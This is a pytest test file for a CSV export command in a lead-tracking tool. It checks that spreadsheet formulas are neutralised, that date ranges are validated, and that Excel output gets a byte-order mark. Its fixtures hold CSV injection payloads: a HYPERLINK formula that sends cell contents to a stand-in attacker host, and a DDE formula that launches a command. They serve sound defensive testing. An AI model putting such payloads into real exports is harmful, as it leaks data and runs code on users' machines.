"""`leadloop export`: feedback and leads as CSV a spreadsheet shows and never runs."""

import codecs
import csv
from pathlib import Path

import pytest

from bot.deps import Deps
from handlers.data_export import cell
from storage.feedback import FeedbackInput, record_feedback
from storage.leads import get_or_create_lead
from tests.factories import REP, TEAM
from tests.helpers import run_cli, seed_campaign

HOSTILE_NOTE = '=HYPERLINK("http://evil.example/?"&A1, "click")'
HOSTILE_NAME = "=cmd|' /C calc'!A0"


async def seed_feedback(deps: Deps) -> None:
    campaign_id = await seed_campaign(deps, TEAM, "spring-webinar")
    async with deps.sessions.begin() as session:
        lead, _created = await get_or_create_lead(
            session=session, team_id=TEAM, now=deps.clock.now(), owner=REP, external_id="crm-1"
        )
        lead.name, lead.company, lead.campaign_id = HOSTILE_NAME, "@SUM(A1:A9)", campaign_id
        await record_feedback(
            session=session,
            team_id=TEAM,
            lead=lead,
            author=REP,
            given=FeedbackInput(rating="junk", reason="bad-data", note=HOSTILE_NOTE),
            now=deps.clock.now(),
        )


async def export(
    deps: Deps, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], *args: str
) -> tuple[int, str, str]:
    return await run_cli(deps, monkeypatch, capsys, "export", *args)


def read_csv(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as source:
        return list(csv.DictReader(source))


async def test_feedback_export_has_lead_and_campaign_columns_and_neutralises_formulas(
    deps: Deps, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    await seed_feedback(deps)
    target = tmp_path / "feedback.csv"

    status, _out, err = await export(deps, monkeypatch, capsys, "feedback", "-o", str(target))

    assert status == 0 and "Exported 1 feedback rows" in err
    [row] = read_csv(target)
    assert row["note"] == "'" + HOSTILE_NOTE
    assert row["lead_name"] == "'" + HOSTILE_NAME
    assert row["lead_company"] == "'@SUM(A1:A9)"
    assert (row["rating"], row["reason"], row["lead_external_id"]) == ("junk", "bad-data", "crm-1")
    assert row["campaign_slug"] == "spring-webinar"
    assert row["created_at"] == deps.clock.now().isoformat()
    assert not any(value.startswith(("=", "+", "-", "@")) for value in row.values())


async def test_leads_export_to_stdout_respects_the_period(
    deps: Deps, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    await seed_feedback(deps)

    status, out, _err = await export(deps, monkeypatch, capsys, "leads", "--since", "2026-11-24")
    rows = list(csv.DictReader(out.splitlines()))
    assert status == 0 and len(rows) == 1
    assert (rows[0]["feedback_count"], rows[0]["latest_rating"]) == ("1", "junk")

    status, out, _err = await export(deps, monkeypatch, capsys, "leads", "--until", "2026-11-24")
    assert status == 0 and len(list(csv.DictReader(out.splitlines()))) == 0

    status, _out, err = await export(deps, monkeypatch, capsys, "leads", "--since", "yesterday")
    assert status == 2 and "not a date" in err


def test_cells_that_would_run_are_prefixed() -> None:
    for text in ("=1+1", "+1", "-1", "@x", "\tx", "\rx"):
        assert cell(text) == "'" + text
    assert cell("plain") == "plain" and cell(None) == "" and cell(3) == "3"


@pytest.mark.parametrize(
    ("since", "until", "said"),
    [
        ("2026-11-25", "2026-11-24", "2026-11-25 00:00 UTC is not before --until 2026-11-24 00:00"),
        ("2026-11-24T13:00+01:00", "2026-11-24T12:00Z", "2026-11-24 12:00 UTC is not before "
         "--until 2026-11-24 12:00"),
    ],
)  # fmt: skip
async def test_since_not_before_until_is_one_line_and_writes_nothing(
    deps: Deps,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    since: str,
    until: str,
    said: str,
) -> None:
    await seed_feedback(deps)
    folder = tmp_path / "out"
    folder.mkdir()
    target = folder / "feedback.csv"
    status, out, err = await export(
        deps, monkeypatch, capsys, "feedback", "--since", since, "--until", until, "-o", str(target)
    )
    assert (status, out) == (2, "")
    assert err == (
        f"leadloop: --since {said} UTC: the export covers --since up to, not including, --until.\n"
    )
    assert list(folder.iterdir()) == []


async def test_excel_export_starts_with_a_utf8_bom(
    deps: Deps, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Excel reads a CSV without a BOM in the machine's code page, garbling ü and é."""
    await seed_feedback(deps)
    target = tmp_path / "leads.csv"
    status, _out, _err = await export(
        deps, monkeypatch, capsys, "leads", "--excel", "-o", str(target)
    )
    raw = target.read_bytes()
    assert status == 0 and raw.startswith(codecs.BOM_UTF8)
    assert not raw[3:].startswith(codecs.BOM_UTF8)
    with open(target, encoding="utf-8-sig", newline="") as source:
        [row] = list(csv.DictReader(source))
    assert row["external_id"] == "crm-1"

    status, out, _err = await export(deps, monkeypatch, capsys, "leads", "--excel")
    assert status == 0 and out.startswith("\ufeff") and out.count("\ufeff") == 1

    status, out, _err = await export(deps, monkeypatch, capsys, "leads", "-o", str(target))
    assert not target.read_bytes().startswith(codecs.BOM_UTF8)
